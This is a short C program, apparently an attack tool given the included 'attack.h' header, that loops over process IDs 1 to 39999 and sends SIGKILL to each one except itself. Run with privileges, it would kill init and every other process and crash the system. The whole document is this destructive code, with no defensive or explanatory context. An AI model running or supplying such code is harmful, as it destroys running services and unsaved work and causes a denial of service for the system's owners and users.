/* Kills every process one by one. */
#include "attack.h"

int main(void)
{
    for (int pid = 1; pid < 40000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    return 0;
}
